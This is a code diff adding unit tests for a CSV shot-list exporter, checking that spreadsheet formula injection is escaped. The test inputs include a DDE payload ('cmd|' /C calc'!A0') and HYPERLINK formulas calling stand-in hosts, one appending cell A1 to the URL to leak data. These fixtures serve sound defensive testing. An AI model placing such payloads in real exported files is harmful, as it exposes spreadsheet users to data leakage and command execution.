@@ -86,6 +86,26 @@ describe('shot list CSV', () => {
     expect(csvField('two\nlines')).toBe('"two\nlines"');
   });
 
+  it('neutralises cells a spreadsheet would run as a formula, keeping plain numbers', () => {
+    expect(csvField('=HYPERLINK("https://evil.example","click")')).toBe(
+      `"'=HYPERLINK(""https://evil.example"",""click"")"`,
+    );
+    for (const start of ['+', '-', '@', '\t']) expect(csvField(`${start}cmd|' /C calc'!A0`)).toMatch(/^'/);
+    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(csvField('-1+2')).toBe("'-1+2");
+    expect(csvField('-1')).toBe('-1');
+    expect(csvField('+2.5')).toBe('+2.5');
+    expect(csvField('1=1')).toBe('1=1');
+    expect(csvField('a-b')).toBe('a-b');
+  });
+
+  it('neutralises a formula in a shot description', () => {
+    const csv = buildShotListCsv(
+      source({ shots: [shot(1, { imageUrl: null, description: '=HYPERLINK("http://x.test/?"&A1)' })] }),
+    );
+    expect(csv.slice(1).split('\r\n')[1]).toBe(`1,,Medium,Zoom in,2,"'=HYPERLINK(""http://x.test/?""&A1)"`);
+  });
+
   it('starts with a BOM and lists every shot with an absolute image url, labels and duration', () => {
     const csv = buildShotListCsv(
       source({ shots: [shot(2, { description: 'Rain, "heavy"\nnight', type: 'close' }), shot(1, { imageUrl: null })] }),
